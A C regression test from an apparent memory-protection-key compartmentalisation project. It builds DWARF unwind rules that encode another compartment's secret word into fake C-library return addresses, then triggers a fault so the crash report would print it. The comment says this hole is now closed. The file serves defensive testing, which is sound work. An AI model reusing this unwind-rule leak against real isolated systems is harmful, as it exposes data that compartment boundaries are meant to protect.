/*
 * attack --report-leak (limit 12 of docs/threat-model.md; found by an
 * attack review): the fault report's unwinder evaluates the unwind rules
 * registered with it (__register_frame_info) with the report's PKRU,
 * which reads every compartment. lib1 registers rules for its faulting
 * code and for a range of the C library's text that compute each caller's
 * return address as a code address of the C library whose offset carries
 * 16 bits of app's private word (DW_OP_deref of its address, shifted by
 * a frame count kept in rbx); then it reads app's data. Every such
 * address lies in code, so the report printed it. Before registering,
 * this prints the offsets the report would show if the word leaked;
 * tests/mpk/vm.sh looks for them in the report. The unwinder's state is
 * read-only from start-up on now (flexos-link's .flexos.unwind): the
 * registration is a write fault (139), and no report runs with the rules.
 */
#define _GNU_SOURCE 1
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <flexos/flexos.h>

#include "attacklib.h"
#include "reportleak.h"

void rl_fault(uintptr_t addr);
__asm__(".text\n"
	".globl rl_fault\n"
	".type rl_fault, @function\n"
	"rl_fault:\n"
	"	xorl %ebx, %ebx\n"
	"	movq (%rdi), %rax\n"
	"	ud2\n"
	"rl_fault_end:\n"
	".size rl_fault, .-rl_fault\n");
extern char rl_fault_end[];

extern void __register_frame_info(const void *begin, void *ob);

/* lib1's rules and what it knows: shared (lib1 reads it with its PKRU). */
static struct {
	unsigned char eh[512] __attribute__((aligned(8)));
	void *ob[16];
	uintptr_t secret, libc_lo, libc_base;
} rl FLEXOS_SHARED;

static int libc_text(struct dl_phdr_info *info, size_t size, void *data)
{
	(void)size, (void)data;
	if (!info->dlpi_name || !strstr(info->dlpi_name, "libc.so"))
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
			rl.libc_base = info->dlpi_addr;
			rl.libc_lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			return 1;
		}
	return 0;
}

static unsigned char *put8(unsigned char *p, uint64_t v)
{
	memcpy(p, &v, 8);
	return p + 8;
}

static unsigned char *put4(unsigned char *p, uint32_t v)
{
	memcpy(p, &v, 4);
	return p + 4;
}

/* An FDE for [lo, hi): rip = libc_lo + 0x100001 + ((*secret >> 16 * rbx) & 0xffff); rbx += 1. */
static unsigned char *fde(unsigned char *p, const unsigned char *cie, uintptr_t lo, uintptr_t hi)
{
	unsigned char *len = p, *elen, *q;

	p = put4(p + 4, (uint32_t)(p + 4 - cie));
	p = put8(p, lo);
	p = put8(p, hi - lo);
	*p++ = 0;		  /* augmentation data: none */
	*p++ = 0x16, *p++ = 16;	  /* DW_CFA_val_expression rip */
	elen = p++, q = p;
	*p++ = 0x0e;		  /* DW_OP_const8u: the word's address */
	p = put8(p, rl.secret);
	*p++ = 0x06;		  /* DW_OP_deref: app's word */
	*p++ = 0x73, *p++ = 0;	  /* DW_OP_breg3 0: rbx */
	*p++ = 0x34, *p++ = 0x24; /* DW_OP_lit4, DW_OP_shl */
	*p++ = 0x25;		  /* DW_OP_shr */
	*p++ = 0x0a, *p++ = 0xff, *p++ = 0xff; /* DW_OP_const2u 0xffff */
	*p++ = 0x1a;			       /* DW_OP_and */
	*p++ = 0x0e;			       /* DW_OP_const8u */
	p = put8(p, rl.libc_lo + 0x100001);
	*p++ = 0x22; /* DW_OP_plus */
	*elen = (unsigned char)(p - q);
	*p++ = 0x16, *p++ = 3, *p++ = 2, *p++ = 0x73, *p++ = 1; /* rbx = rbx + 1 */
	while ((p - len) % 8)
		*p++ = 0; /* DW_CFA_nop */
	put4(len, (uint32_t)(p - len - 4));
	return p;
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1); never returns. */
static long leak_in_lib1(long x)
{
	unsigned char *p = rl.eh, *cie = p;

	(void)x;
	p = put4(p + 4, 0); /* a CIE: version 1, "zR", absolute pointers, CFA rsp + 16 */
	*p++ = 1, *p++ = 'z', *p++ = 'R', *p++ = 0, *p++ = 1, *p++ = 0x78, *p++ = 16;
	*p++ = 1, *p++ = 0x00, *p++ = 0x0c, *p++ = 7, *p++ = 16;
	while ((p - cie) % 8)
		*p++ = 0;
	put4(cie, (uint32_t)(p - cie - 4));
	p = fde(p, cie, (uintptr_t)rl_fault, (uintptr_t)rl_fault_end);
	p = fde(p, cie, rl.libc_lo + 0x100000, rl.libc_lo + 0x110002);
	put4(p, 0);
	__register_frame_info(rl.eh, rl.ob);
	rl_fault(rl.secret);
	return 0;
}

int report_leak(uintptr_t app_secret)
{
	long r = 0;
	uint64_t word = *(volatile uint64_t *)app_secret;

	rl.secret = app_secret;
	if (!dl_iterate_phdr(libc_text, NULL))
		return 2;
	printf("report-leak: app's word %#lx would show in the report as", (unsigned long)word);
	for (int i = 0; i < 4; i++)
		printf(" libc.so.6+%#lx",
		       (unsigned long)(rl.libc_lo - rl.libc_base + 0x100001 + ((word >> 16 * i) & 0xffff)));
	printf("\n");
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call, leak_in_lib1, 0);
	printf("report-leak: lib1 returned %ld: FAIL\n", r);
	return 1;
}
